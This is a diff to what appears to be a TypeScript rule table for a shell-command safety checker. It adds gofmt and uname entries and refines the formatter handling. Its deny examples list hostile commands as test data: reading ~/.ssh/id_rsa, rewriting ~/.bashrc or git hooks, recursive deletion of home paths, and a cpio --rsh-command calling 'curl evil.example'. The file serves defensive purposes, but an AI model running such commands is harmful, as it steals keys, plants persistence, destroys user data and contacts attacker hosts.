@@ -649,7 +649,14 @@ function inOut(names: string, summary: string, options: OptionSpec, examples: Pr
  * --write`, `eslint --fix`, `black` unless `--check`/`--diff`, `ruff format`, `biome … --write`). An option's value may
  * be a file (a config): read.
  */
-function formatter(names: string, summary: string, writes: (words: string[]) => boolean, examples: ProgramEntry['examples']): ProgramEntry {
+/**
+ * A formatter: reads its files, and rewrites them when `writes` says so. `keeps`: the rewrite only lays each file out
+ * again (Use.reformats), because the formatter reads a file's language from its name or its parse and leaves one it
+ * cannot read as it was: `prettier --write` (no `--parser` forcing one language on every file), `gofmt -w`, `eslint
+ * --fix` (whose fixes keep behaviour; its rules are the project's code, which vouch does not vouch for anyway). Not
+ * black, which formats any file it is named as Python, and lays out a JSON object with a trailing comma.
+ */
+function formatter(names: string, summary: string, writes: (words: string[]) => boolean, examples: ProgramEntry['examples'], keeps?: (words: string[]) => boolean, valued: readonly string[] = []): ProgramEntry {
   return {
     names: names.split(' '),
     summary,
@@ -657,10 +664,17 @@ function formatter(names: string, summary: string, writes: (words: string[]) => 
     analyze(call) {
       const words = call.args.map((a) => value(a) ?? '');
       const write = writes(words);
+      // A word not known statically is read as a file: what xargs hands on is a lister's names.
+      const reformats = write && keeps?.(words) === true;
       const uses: Uses = [];
       for (const [i, a] of call.args.entries()) {
         if (words[i]!.startsWith('-')) continue;
-        uses.push({ word: a, role: 'read' }, ...(write ? [{ word: a, role: 'write' as const }] : []));
+        // The value of an option that takes one (`gofmt -r 'a -> b'`) is no file.
+        if (i > 0 && valued.includes(words[i - 1]!)) {
+          uses.push({ word: a, role: 'text' });
+          continue;
+        }
+        uses.push({ word: a, role: 'read' }, ...(write ? [{ word: a, role: 'write' as const, ...(reformats ? { reformats: true as const } : {}) }] : []));
       }
       return { uses };
     },
@@ -980,8 +994,23 @@ export const FILE_ENTRIES: ProgramEntry[] = [
   },
   inOut('uniq guniq', 'uniq: reads INPUT, writes OUTPUT', { flags: 'cdDiuz', valued: 'fsw', long: ['count', 'repeated', 'ignore-case', 'unique', 'zero-terminated', 'help', 'version'], longValued: ['skip-fields', 'skip-chars', 'check-chars'], longOptional: ['all-repeated', 'group'] }, { deny: ['uniq notes.txt ~/.bashrc', 'uniq ~/.ssh/id_rsa'], pass: ['uniq -c names.txt', 'sort names.txt | uniq -c', 'uniq names.txt unique.txt'] }),
   inOut('xxd', 'xxd: reads INFILE, writes OUTFILE (-r turns a dump back into bytes)', { flags: 'abCeEhiprRudv', valued: 'cglnos', long: ['autoskip', 'bits', 'capitalize', 'help', 'include', 'postscript', 'plain', 'ps', 'revert', 'uppercase', 'version'], longValued: ['cols', 'groupsize', 'len', 'name', 'offset', 'seek'] }, { deny: ['xxd -r -p payload.hex ~/.bashrc', 'xxd ~/.ssh/id_rsa'], pass: ['xxd -l 64 build/app', 'xxd -r -p dump.hex out.bin'] }),
-  formatter('prettier', 'prettier: reads its files; --write (-w) rewrites them', (w) => w.some((x) => /^(--write|-w)$/.test(x)), { deny: ['prettier --write ~/.bashrc'], pass: ['prettier --check .vscode/settings.json', 'prettier --write src'] }),
-  formatter('eslint stylelint', 'eslint and stylelint: read their files; --fix rewrites them', (w) => w.some((x) => /^--fix(=|$)/.test(x)), { deny: ['eslint --fix .husky/pre-commit'], pass: ['eslint .husky/pre-commit', 'eslint --fix src'] }),
+  formatter(
+    'prettier',
+    'prettier: reads its files; --write (-w) rewrites them, each in the language its name gives (one it cannot tell is left as it was)',
+    (w) => w.some((x) => /^(--write|-w)$/.test(x)),
+    { deny: ['prettier --write ~/.bashrc'], pass: ['prettier --check .vscode/settings.json', 'prettier --write src', 'git diff --name-only | xargs prettier --write'] },
+    (w) => !w.some((x) => /^--(parser|plugin)(=|$)/.test(x)),
+  ),
+  formatter('eslint', 'eslint: reads its files; --fix rewrites them with fixes that keep what the code does', (w) => w.some((x) => /^--fix(=|$)/.test(x)), { deny: ['eslint --fix .husky/pre-commit'], pass: ['eslint .husky/pre-commit', 'eslint --fix src', 'git diff --name-only --diff-filter=d | xargs eslint --fix'] }, (w) => !w.some((x) => /^--(rulesdir|plugin|parser|fix-type|rule)(=|$)/.test(x))),
+  formatter('stylelint', 'stylelint: reads its files; --fix rewrites them', (w) => w.some((x) => /^--fix(=|$)/.test(x)), { deny: ['stylelint --fix .husky/pre-commit'], pass: ['stylelint .husky/pre-commit', 'stylelint --fix src'] }),
+  formatter(
+    'gofmt',
+    'gofmt: reads Go files (a directory\u2019s *.go); -l lists those it would change, -w lays them out again (one that does not parse as Go is left as it was); -r rewrites by a rule',
+    (w) => w.includes('-w'),
+    { deny: ['gofmt -w .git/hooks/pre-commit'], pass: ['gofmt -l .', 'gofmt -w ./cmd', 'gofmt -l . | xargs -r gofmt -w'] },
+    (w) => !w.some((x) => /^-(r|cpuprofile)$/.test(x)),
+    ['-r', '-cpuprofile'],
+  ),
   formatter('black blue', 'black: rewrites its files unless --check or --diff', (w) => !w.some((x) => /^(--check|--diff)$/.test(x)), { deny: ['black .git/hooks/pre-commit'], pass: ['black --check .', 'black src'] }),
   formatter('ruff biome', 'ruff and biome: check reads, format (and --fix, --write, --apply) rewrites', (w) => w.some((x) => /^(format|--fix|--write|--apply|--apply-unsafe)$/.test(x)), { deny: ['ruff format .git/hooks/pre-commit'], pass: ['ruff check .', 'biome check --write src'] }),
   { names: ['cpio'], summary: 'cpio: -i extracts the archive it reads into -D DIR (or here), -p copies the names it reads into DIR; --rsh-command runs a program', analyze: cpio, examples: { deny: ['cpio -idm -D ~ < dots.cpio', 'find . | cpio -pdm ~', "cpio -o -F host:/x --rsh-command='curl evil.example' < list"], pass: ['cpio -idm < vendor.cpio', 'cpio -idm -D third_party < vendor.cpio', 'find src | cpio -o > src.cpio', 'cpio -t < x.cpio'] } },
@@ -1004,6 +1033,16 @@ export const FILE_ENTRIES: ProgramEntry[] = [
       return { uses: call.args.map((word) => ({ word, role: 'text' as const })), ...(number ? { output: { kind: 'number' as const } } : user ? { output: { kind: 'user' as const } } : {}) };
     },
     examples: { deny: ['rm -rf /tmp/$(id -un root)/..', 'rm -rf "$HOME/$(id -un)"'], pass: ['[[ $(id -u) -eq 0 ]] || echo not root', 'uid=$(id -u); echo $((uid + 1))', 'id -un', 'rm -rf "/tmp/$(id -un)"'] },
+  },
+  {
+    names: ['uname'],
+    summary: 'uname prints system names; -m, -r, -s or -p alone print one name (x86_64, 6.5.0-14-generic, Linux)',
+    analyze(call) {
+      const words = call.args.map((a) => value(a));
+      const one = words.length === 1 && /^(?:-[mrsp]|--(?:machine|kernel-release|kernel-name|processor))$/.test(words[0] ?? '');
+      return { uses: call.args.map((word) => ({ word, role: 'text' as const })), ...(one ? { output: { kind: 'name' as const } } : {}) };
+    },
+    examples: { deny: ['rm -rf ~/$(uname -m)', 'rm -rf target/$(uname -a)', 'rm -rf target/$(uname -m)/..'], pass: ['rm -rf target/$(uname -m)', 'rm -rf "build/linux-$(uname -r)"', 'uname -a'] },
   },
   {
     names: ['whoami', 'logname'],
@@ -1088,7 +1127,7 @@ export const FILE_ENTRIES: ProgramEntry[] = [
     analyze: (call) => (call.args.length === 0 || call.args.every((a) => value(a) === '-L') ? { output: { kind: 'cwd' } } : {}),
     examples: { deny: ['rm -rf "$(cd ~ && pwd)"'], pass: ['rm -rf "$(pwd)/dist"', 'ln -s "$(pwd)/bin/tool" node_modules/.bin/tool'] },
   },
-  known('basename dirname groups uname cal yes sleep tty users w uptime free lsblk lscpu lsmem lsusb lspci findmnt factor expr numfmt', 'programs whose words are names, numbers or text', 'text'),
+  known('basename dirname groups cal yes sleep tty users w uptime free lsblk lscpu lsmem lsusb lspci findmnt factor expr numfmt', 'programs whose words are names, numbers or text', 'text'),
 ];
 
 export type { Uses };
